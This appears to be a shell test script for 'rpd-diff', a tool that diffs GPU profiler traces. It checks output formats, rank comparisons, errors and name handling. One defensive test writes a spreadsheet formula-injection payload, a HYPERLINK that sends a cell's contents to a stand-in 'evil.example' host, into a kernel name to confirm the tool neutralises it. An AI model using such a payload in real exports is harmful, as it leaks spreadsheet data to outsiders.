#!/bin/sh
# rpd-diff: two generated ranks (rpd-synth --ranks: attn_fwd is 3x slower on
# rank 2), two ranks of one merged trace, added/removed rows, every output
# format, errors.
. "$(cd "$(dirname "$0")" && pwd)/../lib.sh"

for r in 0 1 2; do
  rpd-synth --ranks 4 --rank $r --api 3000 -o r$r.rpd >/dev/null || notok "synth rank $r"
done
before=$(sha r0.rpd)
a=$(q r0.rpd "select count(*) || '|' || sum(\"end\" - start) from op where description = 'attn_fwd'")
b=$(q r2.rpd "select count(*) || '|' || sum(\"end\" - start) from op where description = 'attn_fwd'")
ta=${a#*|}; tb=${b#*|}

check_rc "diff two ranks as csv" 0 rpd-diff -f csv r0.rpd r2.rpd
tr -d '\r' <stdout >d.csv
check_eq "header" "level,name,calls_a,calls_b,total_a_us,total_b_us,mean_a_us,mean_b_us,delta_us,pct_change,status" "$(head -1 d.csv)"
check_eq "first kernel row: the slow kernel, exact totals" \
  "kernel|attn_fwd|${a%|*}|${b%|*}|$(awk "BEGIN{printf \"%.3f|%.3f|%.3f|200.0|changed\", $ta/1000, $tb/1000, ($tb-$ta)/1000}")" \
  "$(python3 -c "
import csv; r = [r for r in csv.DictReader(open('d.csv')) if r['level'] == 'kernel'][0]
print(r['level'], r['name'], r['calls_a'], r['calls_b'], '%.3f' % float(r['total_a_us']), '%.3f' % float(r['total_b_us']), '%.3f' % float(r['delta_us']), r['pct_change'], r['status'], sep='|')")"
check_eq "sorted by |delta|, largest first" "1" \
  "$(python3 -c "
import csv; d = [abs(float(r['delta_us'])) for r in csv.DictReader(open('d.csv'))]
print(int(d == sorted(d, reverse=True) and len(d) > 10))")"
check_eq "kernel category delta = the slow kernel's" "$(awk "BEGIN{printf \"%.3f\", ($tb-$ta)/1000}")" \
  "$(python3 -c "
import csv; print('%.3f' % sum(float(r['delta_us']) for r in csv.DictReader(open('d.csv')) if r['level'] == 'category'))")"
check_eq "UserMarker rows unchanged between these ranks" "same" \
  "$(python3 -c "
import csv; print(*sorted({r['status'] for r in csv.DictReader(open('d.csv')) if r['level'] == 'marker'}))")"
check_eq "UserMarker all_reduce calls" "$(q r0.rpd "select count(*) from api where apiName = 'UserMarker' and args = 'all_reduce'")" \
  "$(python3 -c "
import csv; print(*[r['calls_a'] for r in csv.DictReader(open('d.csv')) if r['level'] == 'marker' and r['name'] == 'all_reduce'])")"
check_eq "inputs untouched" "$before" "$(sha r0.rpd)"

check_rc "same trace twice" 0 rpd-diff -f json r1.rpd r1.rpd
check "json parses, every row 'same' with delta 0" python3 -c "
import json; d = json.load(open('stdout'))
assert len(d) > 10 and all(r['status'] == 'same' and r['delta_us'] == 0 for r in d)"

# two ranks of one merged trace = the two rank files
rpd-merge -q -o m.rpd r0.rpd r1.rpd r2.rpd
rpd-diff -f csv --rank-a 0 --rank-b 2 m.rpd m.rpd >mr.csv
rpd-diff -f csv r0.rpd r2.rpd >rr.csv
same_file "--rank-a/--rank-b on a merged trace = the rank files" mr.csv rr.csv
rpd-diff -f csv --by marker --rank-a 0 --rank-b 2 m.rpd m.rpd >mm.csv
rpd-diff -f csv --by marker r0.rpd r2.rpd >rm.csv
same_file "UserMarker rows of two merged ranks" mm.csv rm.csv

# CSV formula injection: a kernel name a spreadsheet would run gets a
# leading '; negative deltas stay numbers; --csv-raw writes it as it is
tmpcopy r0.rpd evil.rpd
q evil.rpd "update rocpd_string set string = '=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"click\")' where string = 'attn_fwd'"
rpd-diff -f csv --by kernel evil.rpd r0.rpd >evil.csv
check_eq "formula: the name neutralised, removed row's delta a negative number" 1 \
  "$(grep -c "^kernel,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\",${a%|*},0,[0-9.]*,0.0,[0-9.]*,,-[0-9.]*,-100.0,removed.\$" evil.csv)"
rpd-diff -f csv --csv-raw --by kernel evil.rpd r0.rpd >evil_raw.csv
check_eq "formula: --csv-raw as it is" "$(sed "s/\"'=/\"=/" evil.csv | cksum)" "$(cksum <evil_raw.csv)"
check "formula: --csv-raw has the raw cell" grep -q '^kernel,"=HYPERLINK' evil_raw.csv

# one 100,000-character kernel name pads no other row (a column is padded
# to at most 512 characters): the table stays about the size of its text
tmpcopy r0.rpd huge.rpd
q huge.rpd "update rocpd_string set string = replace(hex(zeroblob(50000)), '0', 'k') where string = 'attn_fwd'"
rpd-diff --by kernel huge.rpd r0.rpd >huge.txt
check_eq "huge name: the table is under rows x 700 + 2 x 100,000 bytes" 1 \
  "$(test "$(wc -c <huge.txt)" -lt $(( $(wc -l <huge.txt) * 700 + 200000 )) && echo 1)"
check_eq "huge name: its row holds it whole" 1 "$(grep -c 'kkkkkkkkkk' huge.txt)"

# added and removed
tmpcopy r0.rpd ren.rpd
q ren.rpd "update rocpd_string set string = 'renamed_kernel' where string = 'attn_fwd'"
check_rc "renamed kernel" 0 rpd-diff -f json --by kernel r0.rpd ren.rpd
check_eq "removed and added rows" "attn_fwd|removed|${a%|*}|0 renamed_kernel|added|0|${a%|*}" \
  "$(python3 -c "
import json; d = json.load(open('stdout'))
print(*['%s|%s|%d|%d' % (r['name'], r['status'], r['calls_a'], r['calls_b']) for r in d[:2]])")"
check_eq "added row has no % change" "None" "$(python3 -c "
import json; print([r['pct_change'] for r in json.load(open('stdout')) if r['status'] == 'added'][0])")"

# --by, --top, table output, xlsx
check_rc "--by category --top 1" 0 rpd-diff --by category --top 1 -f csv r0.rpd r2.rpd
check_eq "one category row" "2|category,kernel," "$(tr -d '\r' <stdout | wc -l | tr -d ' ')|$(sed -n 2p stdout | cut -d, -f1-2),"
check_rc "table output" 0 rpd-diff --by kernel --top 3 r0.rpd r2.rpd
check "table has the slow kernel on row 3" sh -c "sed -n 3p stdout | grep -q '^kernel *attn_fwd'"
check_rc "--xlsx" 0 rpd-diff --by kernel --xlsx d.xlsx r0.rpd r2.rpd
xlpy=python3
python3 -c "import openpyxl" 2>/dev/null || xlpy=/usr/bin/python3
if $xlpy -c "import openpyxl" 2>/dev/null; then
  check_eq "xlsx first data row" "kernel|attn_fwd|${a%|*}" "$($xlpy -c "
import openpyxl; ws = openpyxl.load_workbook('d.xlsx')['diff']
print(ws['A2'].value, ws['B2'].value, int(ws['C2'].value), sep='|')")"
  check_eq "xlsx says which trace is A and which B (sheet traces)" "A|r0.rpd|B|r2.rpd" "$($xlpy -c "
import openpyxl; ws = openpyxl.load_workbook('d.xlsx')['traces']
print('|'.join('%s|%s' % (r[0], r[1]) for r in ws.iter_rows(min_row=2, values_only=True)))")"
  # a kernel name with control characters (XML 1.0 forbids them in a cell)
  tmpcopy r2.rpd ctl.rpd
  q ctl.rpd "update rocpd_string set string = 'attn' || char(1) || 'fwd' || char(27) || '[31m' where string = 'attn_fwd'"
  check_rc "--xlsx with control characters in a name" 0 rpd-diff --by kernel --xlsx c.xlsx r0.rpd ctl.rpd
  check_eq "xlsx opens; the name's controls are U+FFFD; header bold, frozen, filtered; ids and ints typed" \
    "attn\ufffdfwd\ufffd[31m|added|True|A2|A1:K" "$($xlpy -c "
import openpyxl; ws = openpyxl.load_workbook('c.xlsx')['diff']
row = [r for r in ws.iter_rows(min_row=2, values_only=True) if r[1] and r[1].startswith('attn') and r[1] != 'attn_fwd'][0]
print(row[1].encode('unicode_escape').decode(), row[10], ws['A1'].font.b, ws.freeze_panes, ws.auto_filter.ref[:4], sep='|')")"
else
  skip "xlsx opened with openpyxl" "python3-openpyxl not installed"
fi

# errors
printf 'garbage garbage garbage garbage\n' >junk.rpd
check_rc "one trace: usage" 2 rpd-diff r0.rpd
check_rc "three traces: usage" 2 rpd-diff r0.rpd r1.rpd r2.rpd
check_rc "bad --by" 2 rpd-diff --by kernels r0.rpd r1.rpd
check_rc "bad --rank-a" 2 rpd-diff --rank-a x r0.rpd r1.rpd
check_rc "not SQLite" 1 rpd-diff r0.rpd junk.rpd
check_one_line "not SQLite: one line"
check_rc "missing file" 1 rpd-diff r0.rpd nope.rpd
check_one_line "missing file: one line"
check_rc "--xlsx onto an input" 1 rpd-diff --xlsx r0.rpd r0.rpd r1.rpd
check_eq "input untouched after refusals" "$before" "$(sha r0.rpd)"
check_rc "--help" 0 rpd-diff --help
check "--help text" grep -q "sorted by" stdout

# a text timestamp is refused, not read as 0 (a 9e9 % change)
cp r0.rpd rt.rpd
q rt.rpd "UPDATE rocpd_op SET \"end\" = 'late' WHERE id = (SELECT min(id) FROM rocpd_op)"
cp rt.rpd rt.orig
check_rc "text op end: refused" 1 rpd-diff r0.rpd rt.rpd
check_one_line "text op end: one line"
check "text op end: names file and column" grep -q "cannot read 'rt.rpd': rocpd_op.end: 1 row" "$TESTDIR/stderr"
check_eq "text op end: nothing on stdout" "0" "$(wc -c <"$TESTDIR/stdout")"
same_file "text op end: input byte-identical" rt.rpd rt.orig

# reading in a terminal: the table fits a width (--width N; 160 when
# stdout is not a terminal), long names cut in the middle where they
# differ (four GEMMs of mytrace whose heads and tails are the same read
# differently); CSV keeps the full names
if need_shared "$TRACES/mytrace.rpd.gz"; then
  gzip -dc "$TRACES/mytrace.rpd.gz" >my.rpd
  widest() { awk '{ if (length($0) > m) m = length($0) } END { print m }'; }
  rpd-diff -q my.rpd r0.rpd >wide.txt
  check_eq "mytrace: stdout not a terminal: at most 160 columns" "160" "$(widest <wide.txt)"
  rpd-diff -q --width 120 --by kernel my.rpd r0.rpd >w120.txt
  check_eq "--width 120: at most 120 columns" "120" "$(widest <w120.txt)"
  rpd-diff -q --by kernel my.rpd r0.rpd >k160.txt
  check_eq "160 columns: the 8 Cijk GEMMs of mytrace: 8 different cut names" "8|8" \
    "$(grep -c '^kernel  Cijk' k160.txt)|$(grep '^kernel  Cijk' k160.txt | awk '{ print $2 }' | sort -u | wc -l)"
  check "160 columns: a GEMM's tile size in view" grep -q 'MT32x16x1024' k160.txt
  rpd-diff -q --width 0 --by kernel my.rpd r0.rpd >w0.txt
  check "--width 0: names whole" grep -q "$(q my.rpd "SELECT string FROM rocpd_string WHERE string LIKE 'Cijk%MT32x16x1024%' LIMIT 1")" w0.txt
  rpd-diff -q --width 80 -f csv --by kernel my.rpd r0.rpd >w.csv
  check_eq "--width with CSV: the full names" "$(q my.rpd "SELECT count(DISTINCT string) FROM rocpd_string S JOIN rocpd_op O ON O.description_id = S.id WHERE string LIKE 'Cijk%'")" \
    "$(grep -c '^kernel,Cijk.*WGMXCCG0,' w.csv)"
fi
check_rc "--width x: exit 2" 2 rpd-diff --width x r0.rpd r1.rpd
